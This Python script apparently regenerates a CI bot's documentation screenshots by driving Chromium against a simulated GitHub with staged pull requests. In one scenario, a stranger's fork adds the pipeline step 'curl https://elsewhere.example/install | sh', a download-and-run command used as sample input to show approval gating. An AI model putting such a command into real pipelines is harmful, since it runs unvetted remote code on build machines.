"""Makes the pictures of the docs anew: a job's page, and the simulator's pages of pull requests. Needs Chromium."""

from __future__ import annotations

import asyncio
import shutil
import sys
import tempfile
from collections.abc import Awaitable, Callable, Sequence
from pathlib import Path

from playwright.async_api import async_playwright

from bot.cli import demo
from bot.simulator import Simulator

Shoot = Callable[..., Awaitable[None]]
IMAGES = Path(__file__).parent.parent / "docs" / "images"
#: Nothing of the browser's own calls out, and every run draws alike.
ARGUMENTS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--force-color-profile=srgb",
]


async def main() -> None:
    """Tell the stories, and take their pictures."""
    chromium = shutil.which("chromium")
    if chromium is None:
        sys.exit("Chromium is missing: apt-get install chromium")
    IMAGES.mkdir(parents=True, exist_ok=True)
    with tempfile.TemporaryDirectory() as folder:
        home = Path(folder)
        async with Simulator(folder=home / "github") as github, demo.service(github, home) as url:
            github.webhook_url = f"{url}/webhook"
            async with async_playwright() as playwright:
                browser = await playwright.chromium.launch(executable_path=chromium, args=ARGUMENTS)

                async def shoot(name: str, page_url: str, *, is_whole: bool = True) -> None:
                    page = await browser.new_page(viewport={"width": 1100, "height": 800}, device_scale_factor=1.5)
                    await page.goto(page_url)
                    await page.wait_for_load_state("load")
                    if not is_whole:
                        await page.set_viewport_size({"width": 1100, "height": 1500})
                    await page.screenshot(path=IMAGES / f"{name}.png", full_page=is_whole)
                    await page.close()
                    print(f"docs/images/{name}.png is made")

                await _red_check(github, shoot)
                await _stranger(github, shoot)
                await _results(github, shoot)
                await browser.close()


async def _red_check(github: Simulator, shoot: Shoot) -> None:
    repository = await github.create_repository("octo/hello", files=demo.MAIN)
    await github.commit(repository, "greet-the-world", demo.TOPIC, "Greet the world when nobody is named")
    pull = await github.open_pull_request(repository, "greet-the-world", author="mona")
    run = await github.wait_for_check(repository, pull.head_sha, conclusion="failure")
    await shoot("job", run.details_url)
    await shoot("pull-request", f"{repository.html_url}/pull/{pull.number}")


async def _stranger(github: Simulator, shoot: Shoot) -> None:
    """A stranger's pull request waits, is approved by the button, and a newer push drops the approval."""
    repository = await github.create_repository("octo/tools", files=demo.MAIN)
    fork = await github.fork(repository, "stranger")
    pipeline = demo.MAIN[".buildhook.yml"] + "      - run: curl https://elsewhere.example/install | sh\n"
    files = {"README.md": "# Better tools\n", ".buildhook.yml": pipeline}
    await github.commit(fork, "better", files, "Make the tools better")
    pull = await github.open_pull_request(repository, "better", from_fork=fork, author="stranger")
    page = f"{repository.html_url}/pull/{pull.number}"
    run = await github.wait_for_check(repository, pull.head_sha, conclusion="action_required")
    await shoot("stranger-waits", page)
    github.press_action(run, "approve", sender="octo")
    await github.wait_for_check(repository, pull.head_sha, conclusion="success")
    await shoot("stranger-approved", page)
    await github.push(fork, "better", {"README.md": "# Even better tools\n"}, author="stranger")
    await github.wait_for_check(repository, pull.head_sha, conclusion="action_required")
    await shoot("stranger-pushed-again", page)


async def _results(github: Simulator, shoot: Shoot) -> None:
    """A pull request that breaks 400 tests, and what its job leaves behind."""
    pipeline = """\
name: hello
on: [push, pull_request, workflow_dispatch]
jobs:
  test:
    steps:
      - name: make test
        run: test ! -e broken
    reports: {junit: "reports/*.xml", sarif: findings.sarif, coverage: coverage.lcov}
    artifacts: {name: reports, path: reports/}
"""
    good = {".buildhook.yml": pipeline, "reports/tests.xml": _junit(()), "coverage.lcov": _lcov(850), "a.c": "int a;\n"}
    repository = await github.create_repository("octo/results", files={"README.md": "# Results\n"})
    head = await github.push(repository, "main", good, "Begin")
    await github.wait_for_check(repository, head, conclusion="success")
    bad = {"broken": "", "reports/tests.xml": _junit(range(400)), "coverage.lcov": _lcov(790), "findings.sarif": _SARIF}
    await github.commit(repository, "break", {**bad, "a.c": "int a = b;\n"}, "Break everything")
    pull = await github.open_pull_request(repository, "break", title="Break everything")
    run = await github.wait_for_check(repository, pull.head_sha, conclusion="failure")
    await shoot("results-on-github", f"{repository.html_url}/runs/{run.id}", is_whole=False)
    await shoot("results", run.details_url, is_whole=False)


def _junit(failed: Sequence[int]) -> str:
    wrong = '<failure message="assert 1 == 2">&gt; assert 1 == 2\ntests/test_all.py:{0}: AssertionError</failure>'
    cases = (
        f'<testcase classname="tests.test_all" name="test_{number}" time="0.01">'
        f"{wrong.format(number + 3) if number in failed else ''}</testcase>"
        for number in range(420)
    )
    return f"<testsuites><testsuite>{''.join(cases)}</testsuite></testsuites>"


def _lcov(covered: int) -> str:
    return f"SF:a.c\nLF:1000\nLH:{covered}\nend_of_record\n"


_SARIF = """{"version": "2.1.0", "runs": [{"tool": {"driver": {"name": "lint"}}, "results": [{"ruleId": "undeclared",
"level": "error", "message": {"text": "`b` is not declared."}, "locations": [{"physicalLocation": {"artifactLocation":
{"uri": "a.c"}, "region": {"startLine": 1}}}]}]}]}"""


if __name__ == "__main__":
    asyncio.run(main())
